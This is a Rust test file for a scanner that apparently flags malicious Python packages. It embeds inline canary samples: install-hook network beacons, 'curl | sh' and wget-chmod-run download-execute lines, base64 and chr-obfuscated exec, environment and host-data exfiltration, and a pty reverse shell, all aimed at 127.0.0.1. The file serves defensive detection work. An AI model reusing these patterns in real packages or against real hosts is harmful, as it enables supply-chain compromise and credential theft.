@@ -1,0 +1,221 @@
+//! End-to-end tests of the Python analyser: harmless canaries (they would only talk
+//! to 127.0.0.1 or write a marker file) and benign look-alikes, written inline.
+
+use super::*;
+use crate::alerts::Severity;
+
+fn run(path: &str, role: FileRole, src: &str) -> Vec<Finding> {
+    let f = SourceFile { path, text: src, role };
+    analyze_package(&[f], &PackageContext::default())
+}
+
+fn ids(f: &[Finding]) -> Vec<&'static str> {
+    let mut v: Vec<&'static str> = f.iter().map(|x| x.alert.id()).collect();
+    v.sort();
+    v.dedup();
+    v
+}
+
+fn critical(f: &[Finding]) -> bool {
+    f.iter().any(|x| x.severity() == Severity::Critical)
+}
+
+#[test]
+fn install_network_in_cmdclass() {
+    let src = r#"
+from setuptools import setup
+from setuptools.command.install import install
+import urllib.request
+
+class Beacon(install):
+    def run(self):
+        urllib.request.urlopen("http://127.0.0.1:9/ping", timeout=1)
+        install.run(self)
+
+setup(name="canary", cmdclass={"install": Beacon})
+"#;
+    let f = run("canary-1.0/setup.py", FileRole::SetupScript, src);
+    let n = f.iter().find(|x| x.alert == AlertId::InstallNetwork).expect("install-network");
+    assert_eq!(n.message, "urllib.request.urlopen() in cmdclass `install.run` (runs during pip install)");
+    assert_eq!(n.line, Some(8));
+    assert!(ids(&f).contains(&"install-hook"));
+}
+
+#[test]
+fn benign_setup_is_quiet() {
+    let src = r#"
+import os, re
+from setuptools import setup, find_packages
+here = os.path.abspath(os.path.dirname(__file__))
+with open(os.path.join(here, "pkg", "__init__.py")) as f:
+    version = re.search(r'__version__ = "(.*)"', f.read()).group(1)
+exec(open("pkg/version.py").read())
+setup(name="pkg", version=version, packages=find_packages())
+"#;
+    let f = run("pkg-1.0/setup.py", FileRole::SetupScript, src);
+    assert!(!critical(&f), "{f:#?}");
+}
+
+#[test]
+fn build_subprocess_is_not_critical() {
+    let src = r#"
+import subprocess
+from setuptools import setup
+subprocess.check_call(["cmake", "--build", "."])
+setup(name="x")
+"#;
+    let f = run("x/setup.py", FileRole::SetupScript, src);
+    assert_eq!(ids(&f), vec!["install-subprocess"]);
+}
+
+#[test]
+fn install_shell_curl_pipe() {
+    let src = "import os\nos.system('curl -s http://127.0.0.1:9/x | sh')\n";
+    let f = run("x/setup.py", FileRole::SetupScript, src);
+    assert!(ids(&f).contains(&"install-shell"));
+    assert!(ids(&f).contains(&"download-exec"));
+}
+
+#[test]
+fn aliases_and_getattr_resolve() {
+    let src = r#"
+from os import system as s
+import subprocess as sp
+getattr(__import__('os'), 'popen')('touch /tmp/marker &')
+"#;
+    let f = run("x/setup.py", FileRole::SetupScript, src);
+    let m = f.iter().find(|x| x.alert == AlertId::InstallShell).expect("install-shell");
+    assert!(m.message.starts_with("os.popen()"), "{}", m.message);
+}
+
+#[test]
+fn decode_exec_and_rescan() {
+    // base64 of: import os; os.system("curl http://127.0.0.1:9/a | sh")
+    let src = "import base64\nexec(base64.b64decode('aW1wb3J0IG9zOyBvcy5zeXN0ZW0oImN1cmwgaHR0cDovLzEyNy4wLjAuMTo5L2EgfCBzaCIp'))\n";
+    let f = run("pkg/__init__.py", FileRole::PackageInit, src);
+    assert!(ids(&f).contains(&"decode-exec"), "{f:#?}");
+    let inner = f.iter().find(|x| x.message.starts_with("in decoded payload (base64)")).expect("rescan");
+    assert_eq!(inner.line, Some(2));
+}
+
+#[test]
+fn chr_join_builds_hidden_import() {
+    let src = "m = __import__(''.join([chr(111), chr(115)]))\nm.system('id')\n";
+    let f = run("pkg/mod.py", FileRole::Module, src);
+    assert!(ids(&f).contains(&"hidden-import"), "{f:#?}");
+    assert!(ids(&f).contains(&"import-shell"), "{f:#?}");
+}
+
+#[test]
+fn builtins_getattr_in_setup_is_critical() {
+    let src = "getattr(__builtins__, ''.join(map(chr, [101, 120, 101, 99])))('print(1)')\n";
+    let f = run("x/setup.py", FileRole::SetupScript, src);
+    assert!(ids(&f).contains(&"obfuscated-install-code"), "{f:#?}");
+}
+
+#[test]
+fn exfiltration_of_host_data() {
+    let src = r#"
+import socket, getpass, requests
+from setuptools.command.install import install
+class C(install):
+    def run(self):
+        data = {"h": socket.gethostname(), "u": getpass.getuser()}
+        requests.get("http://127.0.0.1:9/", params=data)
+"#;
+    let f = run("x/setup.py", FileRole::SetupScript, src);
+    assert!(ids(&f).contains(&"exfiltration"), "{f:#?}");
+}
+
+#[test]
+fn download_write_run() {
+    let src = r#"
+import os, requests
+def download(url, path):
+    r = requests.get(url)
+    with open(path, "wb") as fh:
+        fh.write(r.content)
+def launch(path):
+    os.startfile(path)
+download("http://127.0.0.1:9/x.exe", "marker.exe")
+launch("marker.exe")
+"#;
+    let f = run("pkg/main.py", FileRole::Module, src);
+    assert!(ids(&f).contains(&"download-exec"), "{f:#?}");
+}
+
+#[test]
+fn runtime_library_network_is_medium_only() {
+    let src = "import requests\ndef fetch(url):\n    return requests.get(url, timeout=5).json()\n";
+    let f = run("pkg/client.py", FileRole::Module, src);
+    assert_eq!(ids(&f), vec!["network-access"]);
+}
+
+#[test]
+fn botocore_credentials_path_is_low() {
+    let src = "import os\nDEFAULT = os.path.expanduser('~/.aws/credentials')\ndef load(p=DEFAULT):\n    with open(p) as f:\n        return f.read()\n";
+    let f = run("botocore/configprovider.py", FileRole::Module, src);
+    assert_eq!(ids(&f), vec!["sensitive-path-reference"]);
+}
+
+#[test]
+fn reverse_shell_shape() {
+    let src = r#"
+import socket, os, pty
+def go():
+    s = socket.socket()
+    s.connect(("127.0.0.1", 9))
+    for fd in (0, 1, 2):
+        os.dup2(s.fileno(), fd)
+    pty.spawn("/bin/sh")
+"#;
+    let f = run("pkg/x.py", FileRole::Module, src);
+    assert!(ids(&f).contains(&"reverse-shell"), "{f:#?}");
+}
+
+#[test]
+fn pth_files() {
+    let ok = run("distutils-precedence.pth", FileRole::PthFile, "import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == 'local'; enabled and __import__('_distutils_hack').add_shim(); \n");
+    assert_eq!(ids(&ok), vec!["pth-code"]);
+    let bad = run("x.pth", FileRole::PthFile, "import base64; exec(base64.b64decode('cHJpbnQoMSk='))\n");
+    assert_eq!(ids(&bad), vec!["pth-payload"]);
+}
+
+#[test]
+fn env_harvest_and_exfil() {
+    let src = "import os, json, urllib.request\ndef f():\n    body = json.dumps(dict(os.environ)).encode()\n    urllib.request.urlopen('http://127.0.0.1:9', data=body)\n";
+    let f = run("pkg/x.py", FileRole::Module, src);
+    assert!(ids(&f).contains(&"env-harvest"), "{f:#?}");
+    assert!(ids(&f).contains(&"exfiltration"), "{f:#?}");
+    let benign = "import os, subprocess\ndef f():\n    subprocess.run(['ls'], env=os.environ.copy())\n";
+    let f = run("pkg/y.py", FileRole::Module, benign);
+    assert!(!ids(&f).contains(&"env-harvest"));
+}
+
+#[test]
+fn cap_limits_findings() {
+    let src: String = (0..10).map(|i| format!("import os\nos.system('make t{i}')\n")).collect();
+    let f = run("x/setup.py", FileRole::SetupScript, &src);
+    let n: Vec<_> = f.iter().filter(|x| x.alert == AlertId::InstallSubprocess).collect();
+    assert_eq!(n.len(), 3);
+    assert!(n[2].message.ends_with("(and 7 more in this file)"), "{}", n[2].message);
+}
+
+#[test]
+fn python2_setup_still_scanned() {
+    let src = "import os\nprint 'installing'\nos.system('wget http://127.0.0.1:9/a -O /tmp/a && chmod +x /tmp/a && /tmp/a')\n";
+    let f = run("x/setup.py", FileRole::SetupScript, src);
+    assert!(critical(&f), "{f:#?}");
+}
+
+#[test]
+fn snapshot_install_network() {
+    let src = "import urllib.request\nurllib.request.urlopen('http://127.0.0.1:9/')\n";
+    let f = run("canary-1.0/setup.py", FileRole::SetupScript, src);
+    let rendered: Vec<String> = f
+        .iter()
+        .filter(|x| x.alert == AlertId::InstallNetwork)
+        .map(|x| format!("{} {}:{} [{}] {} | {}", x.alert, x.file, x.line.unwrap_or(0), x.context.map(|c| c.as_str()).unwrap_or("-"), x.message, x.evidence))
+        .collect();
+    insta::assert_snapshot!(rendered.join("\n"), @"install-network canary-1.0/setup.py:2 [install] urllib.request.urlopen() at module level (runs during pip install) | urllib.request.urlopen('http://127.0.0.1:9/')");
+}
